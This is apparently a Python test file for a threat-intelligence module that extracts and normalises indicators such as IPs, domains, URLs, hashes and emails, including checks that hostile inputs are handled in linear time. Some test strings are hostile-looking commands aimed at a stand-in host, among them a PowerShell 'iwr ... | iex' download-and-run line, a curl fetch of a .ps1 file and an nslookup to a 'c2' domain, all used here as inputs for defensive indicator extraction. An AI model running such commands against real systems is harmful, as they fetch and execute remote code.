"""What a text names, in one spelling."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haidang.intel.observables import EXTRACT, indicator_of, normalised, refang


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("198.51.100.7", "ip", "198.51.100.7"),
        ("2001:DB8::0:1", "ip", "2001:db8::1"),
        ("::ffff:198.51.100.7", "ip", "198.51.100.7"),
        ("198[.]51[.]100[.]7", "ip", "198.51.100.7"),
        ("198.51.100.7:8443", "ip", "198.51.100.7"),
        ("198.51.100.9/24", "network", "198.51.100.0/24"),
        ("198.51.100.9/32", "ip", "198.51.100.9"),
        ("Evil.Example.", "domain", "evil.example"),
        ("*.evil.example", "domain", "evil.example"),
        ("bücher.example", "domain", "xn--bcher-kva.example"),
        ("hxxps://Evil[.]example:443/Path?Q=1#part", "url", "evil.example/Path?Q=1"),
        ("http://user:word@evil.example", "url", "evil.example/"),
        ("http://evil.example:8080/x", "url", "evil.example:8080/x"),
        ("http://[2001:db8::1]:81/x", "url", "2001:db8::1:81/x"),
        ("evil.example:8080", "domain", "evil.example"),
        (".evil.example", "domain", "evil.example"),
        ("evil[.example", "domain", "evil.example"),
        ("evil\\.example", "domain", "evil.example"),
        ("who(at)evil(dot)example", "email", "who@evil.example"),
        ("https://evil.example/đăng%c4%91?q=é", "url", "evil.example/%C4%91%C4%83ng%C4%91?q=%C3%A9"),
        ("D41D8CD98F00B204E9800998ECF8427E", "hash", "d41d8cd98f00b204e9800998ecf8427e"),
        ("a" * 40, "hash", "a" * 40),
        ("B" * 64, "hash", "b" * 64),
        (":".join(["Ab"] * 20), "hash", "ab" * 20),
        ("Who@Evil.Example", "email", "who@evil.example"),
    ],
)
def test_an_indicator_is_told_by_its_shape(text: str, kind: str, value: str) -> None:
    assert indicator_of(text) == (kind, value)
    assert normalised(kind, value) == value or kind == "url"


@pytest.mark.parametrize(
    "text", ["", "word", "two words", "300.1.1.1", "a" * 33, "http://", "1.2.3", "x" * 10_000]
)
def test_what_has_no_shape_is_no_indicator(text: str) -> None:
    assert indicator_of(text) is None


@pytest.mark.parametrize(
    ("extract", "value", "keys"),
    [
        ("host", "198.51.100.7", {"i:198.51.100.7"}),
        ("host", "198.51.100.7:443", {"i:198.51.100.7"}),
        ("host", "a.evil.example:8443", {"d:a.evil.example", "d:evil.example"}),
        ("url", "http://evil.example/%c4%91", {"u:evil.example/%C4%91"}),
        ("host", "a.b.evil.example.", {"d:a.b.evil.example", "d:b.evil.example", "d:evil.example"}),
        ("host", "type:  5 x.example;::ffff:198.51.100.7;", {"d:x.example", "i:198.51.100.7"}),
        ("url", "https://evil.example/x", {"u:evil.example/x", "d:evil.example"}),
        ("url", "evil.example/x", {"u:evil.example/x", "d:evil.example"}),
        ("url", "/only/a/path", set()),
        ("hash", "MD5=" + "A" * 32 + ",IMPHASH=" + "B" * 32, {"h:" + "a" * 32, "h:imphash:" + "b" * 32}),
        ("hash", ":".join(["8a"] * 20), {"h:" + "8a" * 20}),
        ("email", "Who <who@evil.example>", {"e:who@evil.example", "d:evil.example"}),
        (
            "text",
            "iwr 'http://evil.example/a'; ping 198.51.100.7",
            {"u:evil.example/a", "d:evil.example", "i:198.51.100.7"},
        ),
        (
            "text",
            "(http://evil.example/a).Run()",
            {"u:evil.example/a", "u:evil.example/a).Run()", "d:evil.example"},
        ),
        ("text", "version 1.2.3.4.5 of 1.2.3", set()),
        ("text", "cmd /c nslookup c2.evil.example", {"d:c2.evil.example", "d:evil.example"}),
        ("text", "from=<who@evil.example>, size=1", {"e:who@evil.example", "d:evil.example"}),
        ("text", "connect from mail.evil.example[198.51.100.7]", {"d:evil.example", "i:198.51.100.7"}),
        (
            "text",
            "curl -L evil.example/x.ps1?a=1&b=2 -o b",
            {"u:evil.example/x.ps1?a=1&b=2", "d:evil.example"},
        ),
        ("text", "iwr('evil.example/x.ps1')|iex", {"u:evil.example/x.ps1"}),
        ("text", "copy \\\\evil.example\\share\\a.txt", {"d:evil.example"}),
        ("text", "connect to evil.example:8080.", {"d:evil.example"}),
        ("text", "10.0.0.9 evil.example. A IN", {"d:evil.example"}),
        ("text", f"/tmp/x: Trojan({'A' * 64}:123) FOUND", {"h:" + "a" * 64}),
        ("text", "root from [2001:db8:bad::1]:22", {"i:2001:db8:bad::1"}),
        ("text", "from 2001:db8:0:0:0:0:0:1 port 22", {"i:2001:db8::1"}),
        ("text", "at 04:31:08 from aa:bb:cc:dd:ee:ff", set()),
        (
            "text",
            "C:\\x\\evil.example /usr/evil.example C:/evil.example x\\evil.example ./evil.example",
            set(),
        ),
    ],
)
def test_a_value_gives_the_keys_of_what_it_names(extract: str, value: str, keys: set[str]) -> None:
    assert keys <= set(EXTRACT[extract](value))
    if not keys:
        assert not EXTRACT[extract](value)


@pytest.mark.parametrize("part", ["a.", "a-", "::", ":a", "\\\\a.", "a.bb", "[a.bb/", "f"])
def test_a_text_of_many_words_is_looked_at_in_linear_time(part: str) -> None:
    began = time.process_time()
    found = EXTRACT["text"](part * (65_536 // len(part)))
    assert time.process_time() - began < 2
    assert len(found) < 40_000


@given(st.text(max_size=300), st.sampled_from(sorted(EXTRACT)))
def test_nothing_raises_whatever_a_value_is(value: str, extract: str) -> None:
    assert all(key[1] == ":" for key in EXTRACT[extract](value))
    refang(value)
    indicator_of(value)


@given(st.from_regex(r"(?:[a-z0-9]{1,8}\.){1,4}[a-z]{2,5}", fullmatch=True))
def test_a_name_meets_exactly_itself_and_the_names_above_it(name: str) -> None:
    labels = name.split(".")
    above = {"d:" + ".".join(labels[at:]) for at in range(len(labels) - 1)}
    assert set(EXTRACT["host"](name)) == above


@pytest.mark.parametrize("extract", sorted(EXTRACT))
@pytest.mark.parametrize(
    "piece",
    ["a", "a@", "@", "1.", "http://", "=", "0" * 32, "a.", ": ", "1.1.1.1 ", "AAAA=" + "0" * 31],
    ids=repr,
)
def test_hostile_values_take_linear_time(extract: str, piece: str) -> None:
    def seconds(times: int) -> float:
        value = piece * times
        begin = time.process_time()
        EXTRACT[extract](value)
        return time.process_time() - begin

    # Ten times the text may take some thirty times as long, never a hundred.
    # What else the machine does may double a figure once, but not each time.
    assert any(seconds(100_000) < max(40 * seconds(10_000), 0.5) for _ in range(3))
